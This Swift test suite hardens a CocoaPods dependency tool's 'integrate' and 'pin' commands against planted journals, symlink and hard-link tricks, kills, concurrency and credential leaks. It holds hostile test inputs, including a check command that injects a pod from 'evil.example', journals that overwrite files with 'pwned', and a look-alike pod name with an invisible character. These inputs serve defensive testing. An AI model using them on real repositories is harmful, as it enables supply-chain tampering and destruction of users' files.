import Foundation
import Testing

/// A journal as a planted file or a killed integrate leaves it.
private func journalJSON(step: String = "checking", pins: [String] = ["Foo=1.1.0"], files: [(String, String?)],
                         staged: String? = nil, pid: Int32 = 999_999, publishing: String? = nil) -> String {
    let entries = files.map { path, original in
        "{\"path\": \"\(path)\"" + (original.map { ", \"original\": \"\(Data($0.utf8).base64EncodedString())\"" } ?? "") + "}"
    }
    return "{\"step\": \"\(step)\", \"pins\": [" + pins.map { "\"\($0)\"" }.joined(separator: ", ") + "], "
        + "\"files\": [" + entries.joined(separator: ", ") + "], "
        + (staged.map { "\"stagedDirectory\": \"\($0)\", " } ?? "")
        + (publishing.map { "\"publishing\": \($0), " } ?? "")
        + "\"pid\": \(pid)}"
}

/// The pid of a process that has ended.
private func deadPID() throws -> Int32 {
    let process = Process()
    process.executableURL = URL(fileURLWithPath: "/bin/true")
    try process.run()
    process.waitUntilExit()
    return process.processIdentifier
}

@Suite(.serialized) struct IntegrateHardeningTests {
    /// Issue 9, item 1: a planted journal named files outside the project and any folder as
    /// its staged directory; `outdated` wrote, deleted and removed them.
    @Test(arguments: [["outdated"], ["resolve"], ["graph", "--podfile", "Podfile"], ["why", "Foo"], ["pin", "--dry-run", "Foo=1.0.0"]])
    func aPlantedJournalIsNeverActedOnByReaders(command: [String]) throws {
        let fixture = try IntegrateWorld()
        let world = fixture.world
        try "precious\n".write(toFile: world("victim.txt"), atomically: true, encoding: .utf8)
        try "keep me\n".write(toFile: world("delete-me.txt"), atomically: true, encoding: .utf8)
        try FileManager.default.createDirectory(atPath: world("precious/inner"), withIntermediateDirectories: true)
        try world.write([".compctl/integrate.journal": journalJSON(
            files: [(world("victim.txt"), "pwned\n"), (world("delete-me.txt"), nil)], staged: world("precious"))], under: "app")
        let result = try world.compctl(command, in: world("app"))
        #expect(result.exitCode == 0, "\(result)")
        #expect(result.stderr.contains("warning: an integrate in this project did not finish (.compctl/integrate.journal)"), "\(result.stderr)")
        #expect(try String(contentsOfFile: world("victim.txt"), encoding: .utf8) == "precious\n")
        #expect(FileManager.default.fileExists(atPath: world("delete-me.txt")))
        #expect(FileManager.default.fileExists(atPath: world("precious/inner")))
    }

    /// A writer refuses the same journal whole, naming the entry, and touches nothing.
    @Test func aPlantedJournalIsRefusedByWriters() throws {
        let fixture = try IntegrateWorld()
        let world = fixture.world
        try "precious\n".write(toFile: world("victim.txt"), atomically: true, encoding: .utf8)
        try FileManager.default.createDirectory(atPath: world("precious"), withIntermediateDirectories: true)
        let podfile = try fixture.podfile()
        try world.write([".compctl/integrate.journal": journalJSON(
            files: [("Podfile", "pwned\n"), (world("victim.txt"), "pwned\n")], staged: world("precious"))], under: "app")
        for command in [["integrate", "Foo=1.1.0", "--check-command", "true"], ["pin", "Foo=1.0.0"], ["integrate", "--recover"]] {
            let result = try world.compctl(command, in: world("app"))
            #expect(result.exitCode == 1, "\(result)")
            #expect(result.stderr.hasPrefix("error: .compctl/integrate.journal: names \(world("victim.txt")), which is not a file an integrate "
                + "of this project writes (Podfile, Podfile.lock); compctl touched nothing"), "\(result.stderr)")
            #expect(try String(contentsOfFile: world("victim.txt"), encoding: .utf8) == "precious\n")
            #expect(try fixture.podfile() == podfile)
            #expect(FileManager.default.fileExists(atPath: world("precious")))
        }
        // A staged directory that is not compctl's own scratch folder is refused too.
        try world.write([".compctl/integrate.journal": journalJSON(files: [("Podfile", "pwned\n")], staged: world("precious"))], under: "app")
        let staged = try world.compctl(["integrate", "--recover"], in: world("app"))
        #expect(staged.exitCode == 1)
        #expect(staged.stderr.contains("the staged folder \(world("precious")) is not a compctl-integrate.* folder of yours"), "\(staged.stderr)")
        #expect(try fixture.podfile() == podfile)
    }

    /// A journal that git tracks came from a commit: refused, whatever it says.
    @Test func aTrackedJournalIsRefused() throws {
        let fixture = try IntegrateWorld()
        let world = fixture.world
        try world.write([".compctl/integrate.journal": journalJSON(files: [("Podfile", "pwned\n")])], under: "app")
        try gitCLI("add", "-f", ".compctl/integrate.journal", in: world("app"))
        try gitCLI("commit", "-qm", "plant", in: world("app"))
        let podfile = try fixture.podfile()
        let result = try fixture.integrate(["Foo=1.1.0", "--check-command", "true"])
        #expect(result.exitCode == 1)
        #expect(result.stderr == "error: .compctl/integrate.journal is tracked by git, so it came from a commit, not from a compctl run; "
            + "compctl touched nothing: remove it with `git rm --cached .compctl/integrate.journal` and commit\n")
        #expect(try fixture.podfile() == podfile)
    }

    /// A symlinked `.compctl` leads writes out of the project: refused.
    @Test func aSymlinkedStateFolderIsRefused() throws {
        let fixture = try IntegrateWorld()
        let world = fixture.world
        try FileManager.default.createDirectory(atPath: world("elsewhere"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: world("app/.compctl"), withDestinationPath: world("elsewhere"))
        let result = try fixture.integrate(["Foo=1.1.0", "--check-command", "true"])
        #expect(result.exitCode == 1)
        #expect(result.stderr.contains(".compctl is a symlink; compctl keeps its own state there and will not follow or replace it"), "\(result.stderr)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: world("elsewhere")).isEmpty)
    }

    /// After a SIGKILL, readers warn and change nothing; `integrate --recover` restores.
    @Test func afterASigkillReadersWarnAndRecoverRestores() throws {
        let fixture = try IntegrateWorld()
        let before = try fixture.snapshot()
        let killed = try fixture.integrateKilledDuringTheCheck()
        let read = try fixture.world.compctl(["outdated"], in: fixture.world("app"))
        #expect(read.exitCode == 0)
        #expect(read.stderr.contains("`compctl integrate --recover` restores it"), "\(read.stderr)")
        #expect(try fixture.podfile().contains("'Foo', '1.1.0'"))
        let recovered = try fixture.world.compctl(["integrate", "--recover"], in: fixture.world("app"))
        #expect(recovered.exitCode == 0, "\(recovered)")
        #expect(recovered.stderr.hasPrefix("an earlier integrate of Foo=1.1.0 (pid \(killed)) did not finish; restored "))
        #expect(try fixture.snapshot() == before)
        let again = try fixture.world.compctl(["integrate", "--recover"], in: fixture.world("app"))
        #expect(again.stderr == "Podfile: no unfinished integrate; nothing to recover\n")
    }

    /// Issue 9, item 3: four integrates at once in one checkout; each that says it
    /// integrated has its pin in the final Podfile and in a commit.
    @Test func fourIntegratesInOneCheckoutKeepEveryPin() async throws {
        // Off Swift concurrency's threads: the rounds block for most of a minute.
        let failures = try await onOwnThread { try Self.integrateRounds() }
        for failure in failures { Issue.record(Comment(rawValue: failure)) }
    }

    /// The rounds of `fourIntegratesInOneCheckoutKeepEveryPin` (`COMPCTL_CONCURRENCY_ROUNDS`,
    /// default 20); returns what went wrong.
    private static func integrateRounds() throws -> [String] {
        let rounds = HarnessReport.count("COMPCTL_CONCURRENCY_ROUNDS", default: 20)
        var failedRounds = 0
        var all: [String] = []
        for round in 0..<rounds {
            let fixture = try IntegrateWorld(components: ["Foo", "Bar", "Baz", "Qux"])
            let processes = try ["Foo", "Bar", "Baz", "Qux"].map { name in
                try fixture.start(["\(name)=1.1.0", "--check-command", "sleep 0.1"], output: fixture.world("\(name).log"))
            }
            for process in processes { process.waitUntilExit() }
            let podfile = try fixture.podfile()
            let log = try gitCLI("log", "--format=%s", in: fixture.world("app"))
            var failures: [String] = []
            for (name, process) in zip(["Foo", "Bar", "Baz", "Qux"], processes) {
                let output = (try? String(contentsOfFile: fixture.world("\(name).log"), encoding: .utf8)) ?? ""
                if process.terminationStatus != 0 { failures.append("round \(round) \(name): exit \(process.terminationStatus)\n\(output)") }
                guard process.terminationStatus == 0 else { continue }
                if !podfile.contains("pod '\(name)', '1.1.0'") { failures.append("round \(round): \(name) said integrated, Podfile:\n\(podfile)") }
                if !log.contains("Integrate \(name) 1.1.0") { failures.append("round \(round): \(name) said integrated, log:\n\(log)") }
                let committed = try gitCLI("show", "HEAD:Podfile", in: fixture.world("app"))
                if !committed.contains("pod '\(name)', '1.1.0'") { failures.append("round \(round): \(name) not in HEAD") }
            }
            let status = try gitCLI("status", "--porcelain", in: fixture.world("app"))
            if !status.isEmpty { failures.append("round \(round): the work tree is not clean:\n\(status)") }
            if !failures.isEmpty { failedRounds += 1 }
            all += failures
        }
        HarnessReport.record(attack: "4 integrates at once, one checkout", trials: rounds, failures: failedRounds)
        return all
    }

    /// A second writer waits for the first, saying so, and gives up after --lock-timeout.
    @Test func aSecondWriterWaitsThenTimesOut() throws {
        let fixture = try IntegrateWorld()
        let marker = fixture.world("started")
        let first = try fixture.start(["Foo=1.1.0", "--check-command", "touch '\(marker)'; exec sleep 5"])
        try fixture.waitFor(marker)
        let second = try fixture.world.compctl(["pin", "Bar=1.0.0", "--lock-timeout", "1"], in: fixture.world("app"))
        kill(first.processIdentifier, SIGTERM)
        first.waitUntilExit()
        #expect(second.exitCode == 1)
        #expect(second.stderr.hasPrefix("waiting for another compctl (pid \(first.processIdentifier)) to finish with this project (.compctl/lock; up to 1 s)\n"
            + "error: another compctl (pid \(first.processIdentifier)) held "), "\(second.stderr)")
        #expect(second.stderr.hasSuffix(".compctl/lock for the whole 1 s wait; let it finish, or raise --lock-timeout\n"))
    }

    /// Lesser finding: integrate committed unrelated uncommitted edits of the Podfile.
    @Test func uncommittedPodfileEditsAreRefused() throws {
        let fixture = try IntegrateWorld()
        try (fixture.podfile() + "# not reviewed\n").write(toFile: fixture.world("app/Podfile"), atomically: true, encoding: .utf8)
        let before = try fixture.snapshot()
        let result = try fixture.integrate(["Foo=1.1.0", "--check-command", "true"])
        #expect(result.exitCode == 1)
        #expect(result.stderr == "error: Podfile has uncommitted changes, which the integrate commit would carry along; commit or stash them first\n")
        #expect(try fixture.snapshot() == before)
    }

    /// Lesser finding: with a local commit not pushed, --push pushed an unchecked tree.
    @Test func pushFromACheckoutAheadOfOriginIsRefused() throws {
        let fixture = try IntegrateWorld()
        try "hi\n".write(toFile: fixture.world("app/NOTES"), atomically: true, encoding: .utf8)
        try gitCLI("add", "NOTES", in: fixture.world("app"))
        try gitCLI("commit", "-qm", "local", in: fixture.world("app"))
        let before = try fixture.snapshot()
        let result = try fixture.integrate(["Foo=1.1.0", "--push", "--check-command", "true"])
        #expect(result.exitCode == 1)
        #expect(result.stderr == "error: main has a commit that origin/main does not; --push would publish a tree other than the one checked: "
            + "push it first, or integrate without --push\n")
        #expect(try fixture.snapshot() == before)
    }

    /// Found by the kill -9 harness: a kill inside an atomic write (between its temporary
    /// file and the rename) left `.Podfile.compctl-XXXXXX` untracked in the project forever.
    /// The next writer, holding the project's lock (so no write can be under way), removes
    /// those of the files an integrate writes; other names stay.
    @Test(arguments: [true, false])
    func writesAKilledRunLeftHalfDoneAreRemoved(withJournal: Bool) throws {
        let fixture = try IntegrateWorld()
        let podfile = try fixture.podfile()
        var files = [
            ".Podfile.compctl-AbC123": podfile.replacingOccurrences(of: "'Foo', '1.0.0'", with: "'Foo', '1.1.0'"),
            ".Podfile.lock.compctl-x1Y2z3": "PODS:\n",
            ".compctl/.integrate.journal.compctl-Qw3rTy": "{\"step\": ",
            ".Podfile.compctl-notmine": "kept\n",
            ".Other.compctl-AbC123": "kept\n",
        ]
        if withJournal { files[".compctl/integrate.journal"] = journalJSON(files: [("Podfile", podfile)], pid: try deadPID()) }
        try fixture.world.write(files, under: "app")
        let result = try fixture.world.compctl(["integrate", "--recover"], in: fixture.world("app"))
        #expect(result.exitCode == 0, "\(result)")
        #expect(try fixture.podfile() == podfile)
        let status = try gitCLI("status", "--porcelain", "--ignored", in: fixture.world("app"))
        #expect(status == "?? .Other.compctl-AbC123\n?? .Podfile.compctl-notmine", "\(status)")
    }

    /// Lesser finding: after a kill past the commit, recovery said "did not commit".
    @Test func recoveryAfterTheCommitSaysItIsDone() throws {
        let fixture = try IntegrateWorld()
        let original = try fixture.podfile()
        let result = try fixture.integrate(["Foo=1.1.0", "--check-command", "true"])
        #expect(result.exitCode == 0, "\(result)")
        let head = try gitCLI("rev-parse", "--short=8", "HEAD", in: fixture.world("app"))
        let pid = try deadPID()
        try fixture.world.write([".compctl/integrate.journal": journalJSON(step: "published", files: [("Podfile", original)], pid: pid)],
                                under: "app")
        let recovered = try fixture.world.compctl(["integrate", "--recover"], in: fixture.world("app"))
        #expect(recovered.exitCode == 0, "\(recovered)")
        #expect(recovered.stderr == "an earlier integrate of Foo=1.1.0 (pid \(pid)) published its specs but was stopped before it ended; "
            + "its commit \(head) is in place; nothing to do\n")
        #expect(try fixture.podfile().contains("pod 'Foo', '1.1.0'"))
        #expect(!FileManager.default.fileExists(atPath: fixture.world("app/.compctl")))
    }

    /// Lesser finding: killed runs left `compctl-integrate.*` scratch clones behind forever.
    @Test func scratchFoldersOfKilledRunsAreRemoved() throws {
        let fixture = try IntegrateWorld()
        let temporary = fixture.world("tmp")
        try FileManager.default.createDirectory(atPath: temporary, withIntermediateDirectories: true)
        _ = try fixture.integrateKilledDuringTheCheck(environment: ["TMPDIR": temporary])
        #expect(try FileManager.default.contentsOfDirectory(atPath: temporary).count == 1)
        // A run killed before it wrote its journal leaves a folder that no journal names.
        try FileManager.default.createDirectory(atPath: temporary + "/compctl-integrate.\(try deadPID()).AbCdEf/staged-specs.git",
                                                withIntermediateDirectories: true)
        // Someone else's folder of the same shape, whose process lives, is left alone.
        let live = temporary + "/compctl-integrate.\(getpid()).keepme"
        try FileManager.default.createDirectory(atPath: live, withIntermediateDirectories: true)
        let result = try fixture.world.compctl(["integrate", "Bar=1.1.0", "--check-command", "true"], in: fixture.world("app"),
                                               environment: ["TMPDIR": temporary])
        #expect(result.exitCode == 0, "\(result)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: temporary) == ["compctl-integrate.\(getpid()).keepme"])
    }

    /// Lesser finding: `pin` replaced a symlinked Podfile by a regular file.
    @Test func pinWritesThroughASymlinkedPodfile() throws {
        let fixture = try IntegrateWorld()
        let world = fixture.world
        try FileManager.default.createDirectory(atPath: world("app/ios"), withIntermediateDirectories: true)
        try FileManager.default.moveItem(atPath: world("app/Podfile"), toPath: world("app/ios/Podfile"))
        try FileManager.default.createSymbolicLink(atPath: world("app/Podfile"), withDestinationPath: "ios/Podfile")
        let result = try world.compctl(["pin", "Bar=1.0.0"], in: world("app"))
        #expect(result.exitCode == 0, "\(result)")
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: world("app/Podfile")) == "ios/Podfile")
        #expect(try String(contentsOfFile: world("app/ios/Podfile"), encoding: .utf8).contains("pod 'Bar', '1.0.0' # keep"))

        // A link out of the project is refused.
        try FileManager.default.createDirectory(atPath: world("outside"), withIntermediateDirectories: true)
        try FileManager.default.moveItem(atPath: world("app/ios/Podfile"), toPath: world("outside/Podfile"))
        try FileManager.default.removeItem(atPath: world("app/Podfile"))
        try FileManager.default.createSymbolicLink(atPath: world("app/Podfile"), withDestinationPath: world("outside/Podfile"))
        let outside = try world.compctl(["pin", "Bar=1.0.0"], in: world("app"))
        #expect(outside.exitCode == 1)
        #expect(outside.stderr.contains("Podfile is a symlink to \(world("outside/Podfile")), outside the project"), "\(outside.stderr)")
        #expect(try String(contentsOfFile: world("outside/Podfile"), encoding: .utf8).contains("pod 'Bar', '1.0.0' # keep"))
    }
}

/// Issue 9, item 5: the spec repo behind `git daemon`, with a `reference-transaction` hook
/// that runs after the server has moved its branch but before it answers the client.
@Suite(.serialized) struct IntegratePublishingStepTests {
    /// The integrate world with its spec repo served on git://, the hook given in `hook`.
    private func world(hook: String) throws -> (IntegrateWorld, LocalGitDaemon) {
        let fixture = try IntegrateWorld()
        let daemon = try LocalGitDaemon(basePath: fixture.world.directory.url.path)
        let hookPath = fixture.world("specs.git/hooks/reference-transaction")
        try ("#!/bin/sh\n[ \"$1\" = committed ] || exit 0\n" + hook + "\n").write(toFile: hookPath, atomically: true, encoding: .utf8)
        chmod(hookPath, 0o755)
        try "spec_repos:\n  - name: specs\n    url: \(daemon.url("specs.git"))\nprojects:\n  - name: App\n    podfile: Podfile\n    kind: main\n"
            .write(toFile: fixture.world("app/compctl.yml"), atomically: true, encoding: .utf8)
        try gitCLI("commit", "-qam", "spec repo over git://", in: fixture.world("app"))
        return (fixture, daemon)
    }

    /// A kill while the server finishes a push it has applied: recovery finds the commit
    /// on the remote and keeps (and commits) the pins instead of undoing a live publish.
    @Test func aKillAfterThePushLandedKeepsThePins() throws {
        let marker = FileManager.default.temporaryDirectory.appendingPathComponent("landed-\(UUID().uuidString)").path
        defer { try? FileManager.default.removeItem(atPath: marker) }
        let (fixture, daemon) = try world(hook: "touch '\(marker)'; sleep 3")
        let process = try fixture.start(["Foo=1.1.0", "--check-command", "true"])
        try fixture.waitFor(marker)
        kill(process.processIdentifier, SIGKILL)
        process.waitUntilExit()
        #expect(try fixture.world.log(fixture.world("specs.git")).first == "[Update] Foo (1.1.0)")
        let recovered = try fixture.world.compctl(["integrate", "--recover"], in: fixture.world("app"))
        #expect(recovered.exitCode == 0, "\(recovered)")
        #expect(recovered.stderr.hasPrefix("an earlier integrate of Foo=1.1.0 (pid \(process.processIdentifier)) published its specs "
            + "but was stopped before it ended; kept its pins and committed them ("), "\(recovered.stderr)")
        #expect(try fixture.podfile().contains("pod 'Foo', '1.1.0'"))
        #expect(try gitCLI("log", "-1", "--format=%s", in: fixture.world("app")) == "Integrate Foo 1.1.0")
        #expect(try gitCLI("status", "--porcelain", in: fixture.world("app")) == "")
        withExtendedLifetime(daemon) {}
    }

    /// A connection dropped after the server applied the push (`early EOF`): the publish
    /// asks the remote, finds its commit there, and the integrate completes.
    @Test func aDroppedConnectionAfterTheServerAppliedThePushStillLands() throws {
        let (fixture, daemon) = try world(hook: "kill -9 $PPID")
        let result = try fixture.integrate(["Foo=1.1.0", "--check-command", "true"])
        #expect(result.exitCode == 0, "\(result)")
        #expect(try fixture.world.log(fixture.world("specs.git")).first == "[Update] Foo (1.1.0)")
        #expect(try gitCLI("log", "-1", "--format=%s", in: fixture.world("app")) == "Integrate Foo 1.1.0")
        #expect(try fixture.podfile().contains("pod 'Foo', '1.1.0'"))
        withExtendedLifetime(daemon) {}
    }
}

@Suite struct IntegrateRepeatTests {
    /// A second identical integrate (a retried CI job) says it is done and changes nothing.
    @Test func aSecondIdenticalIntegrateSaysItIsDone() throws {
        let fixture = try IntegrateWorld()
        let first = try fixture.integrate(["Foo=1.1.0", "--check-command", "true"])
        #expect(first.exitCode == 0, "\(first)")
        let before = try fixture.snapshot()
        let second = try fixture.integrate(["Foo=1.1.0", "--check-command", "false"])
        #expect(second.exitCode == 0, "\(second)")
        #expect(second.stdout == "Foo=1.1.0 already integrated into Podfile\n")
        #expect(second.stderr == "every version is published in specs and pinned in the committed Podfile; nothing to do\n")
        #expect(try fixture.snapshot() == before)
    }
}

/// What a hostile tester found in the first round of fixes (each reproduced against that build).
@Suite(.serialized) struct IntegrateHostileFindingsTests {
    /// A journal naming a live integrate's scratch folder as its staged folder deleted it.
    @Test func aLiveIntegratesScratchFolderIsNeverRemoved() throws {
        let fixture = try IntegrateWorld()
        let temporary = fixture.world("tmp")
        let live = temporary + "/compctl-integrate.\(getpid()).LiVe12"
        try FileManager.default.createDirectory(atPath: live + "/staged-specs.git", withIntermediateDirectories: true)
        try fixture.world.write([".compctl/integrate.journal": "{\"step\": \"checking\", \"pins\": [], \"files\": [], "
            + "\"stagedDirectory\": \"\(live)\", \"pid\": 1}"], under: "app")
        let result = try fixture.world.compctl(["integrate", "--recover"], in: fixture.world("app"), environment: ["TMPDIR": temporary])
        #expect(result.exitCode == 1, "\(result)")
        #expect(result.stderr.contains("is not a compctl-integrate.* folder of yours"), "\(result.stderr)")
        #expect(FileManager.default.fileExists(atPath: live + "/staged-specs.git"))
    }

    /// A `.compctl` that is a submodule (its own repository) brings a journal from a commit.
    @Test func aJournalInASubmoduleIsRefused() throws {
        let fixture = try IntegrateWorld()
        let podfile = try fixture.podfile()
        try fixture.world.write([".compctl/integrate.journal": "{\"step\": \"checking\", \"pins\": [\"Foo=1.1.0\"], "
            + "\"files\": [{\"path\": \"Podfile\", \"original\": \"\(Data("pwned\n".utf8).base64EncodedString())\"}], \"pid\": 1}"],
            under: "app")
        try gitCLI("init", "-q", fixture.world("app/.compctl"))
        let result = try fixture.world.compctl(["integrate", "--recover"], in: fixture.world("app"))
        #expect(result.exitCode == 1, "\(result)")
        #expect(result.stderr.contains("is tracked by git, so it came from a commit"), "\(result.stderr)")
        #expect(try fixture.podfile() == podfile)
    }

    /// A `published` journal is not proof: a version the spec repo does not have is never committed.
    @Test func aPublishedJournalWhoseSpecNeverLandedIsRestored() throws {
        let fixture = try IntegrateWorld()
        let original = try fixture.podfile()
        let pinned = original.replacingOccurrences(of: "pod 'Foo', '1.0.0'", with: "pod 'Foo', '1.1.0'")
        try pinned.write(toFile: fixture.world("app/Podfile"), atomically: true, encoding: .utf8)
        let head = try gitCLI("rev-parse", "HEAD", in: fixture.world("app"))
        try fixture.world.write([".compctl/integrate.journal": "{\"step\": \"published\", \"pins\": [\"Foo=1.1.0\"], "
            + "\"files\": [{\"path\": \"Podfile\", \"original\": \"\(Data(original.utf8).base64EncodedString())\"}], \"pid\": 1}"],
            under: "app")
        let result = try fixture.world.compctl(["integrate", "--recover"], in: fixture.world("app"))
        #expect(result.exitCode == 0, "\(result)")
        #expect(try fixture.podfile() == original)
        #expect(try gitCLI("rev-parse", "HEAD", in: fixture.world("app")) == head)
    }

    /// The integrate commit held whatever else was staged.
    @Test func theIntegrateCommitHoldsOnlyThePinnedFiles() throws {
        let fixture = try IntegrateWorld()
        try "x\n".write(toFile: fixture.world("app/notes.txt"), atomically: true, encoding: .utf8)
        try gitCLI("add", "notes.txt", in: fixture.world("app"))
        let result = try fixture.integrate(["Foo=1.1.0", "--check-command", "true"])
        #expect(result.exitCode == 0, "\(result)")
        #expect(try gitCLI("show", "--name-only", "--format=", "HEAD", in: fixture.world("app")) == "Podfile")
        #expect(try gitCLI("status", "--porcelain", in: fixture.world("app")) == "A  notes.txt")
    }

    /// A compile check that edits the Podfile must not get its edit committed as "Integrate …".
    @Test func aCheckThatEditsThePodfileFails() throws {
        let fixture = try IntegrateWorld()
        let before = try fixture.snapshot()
        let result = try fixture.integrate(["Foo=1.1.0", "--check-command", "echo \"  pod 'Evil', :git => 'https://evil.example/x.git'\" >> Podfile"])
        #expect(result.exitCode == 1, "\(result)")
        #expect(result.stderr.contains("error: the compile check changed Podfile beyond the pins, and an integrate commits only the pins; "
            + "nothing was published and the files were restored"), "\(result.stderr)")
        #expect(try fixture.snapshot() == before)
    }

    /// A hard-linked lock file made compctl write its pid into a file outside the project.
    @Test func aHardLinkedLockIsRefused() throws {
        let fixture = try IntegrateWorld()
        try "keep\n".write(toFile: fixture.world("outside"), atomically: true, encoding: .utf8)
        try FileManager.default.createDirectory(atPath: fixture.world("app/.compctl"), withIntermediateDirectories: true)
        try FileManager.default.linkItem(atPath: fixture.world("outside"), toPath: fixture.world("app/.compctl/lock"))
        let result = try fixture.world.compctl(["integrate", "--recover"], in: fixture.world("app"))
        #expect(result.exitCode == 1, "\(result)")
        #expect(result.stderr.contains(".compctl/lock has other hard links"), "\(result.stderr)")
        #expect(try String(contentsOfFile: fixture.world("outside"), encoding: .utf8) == "keep\n")
    }

    /// A password holding `;`, `'` or `,` was printed whole in "cannot reach …".
    @Test(arguments: ["https://ci:hunter2;pass@127.0.0.1:9/x.git", "https://ci:it's-hunter2@127.0.0.1:9/x.git",
                      "https://ci:a,hunter2@127.0.0.1:9/x.git"])
    func passwordsWithPunctuationAreRedacted(url: String) throws {
        let world = try GitWorld()
        let result = try world.compctl(["repo", "add", "r1", url])
        #expect(result.exitCode != 0)
        #expect(!result.stderr.contains("hunter2") && !result.stdout.contains("hunter2"), "\(result)")
    }

    /// An invisible character made `Fo\u{200B}o` a second pod that reads as `Foo`.
    @Test func invisibleCharactersInANameAreRefused() throws {
        let fixture = try IntegrateWorld()
        let result = try fixture.world.compctl(["pin", "Fo\u{200B}o=1.0.0"], in: fixture.world("app"))
        #expect(result.exitCode == 64, "\(result)")
        #expect(result.stderr.contains("contains the invisible character U+200B"), "\(result.stderr)")
    }
}
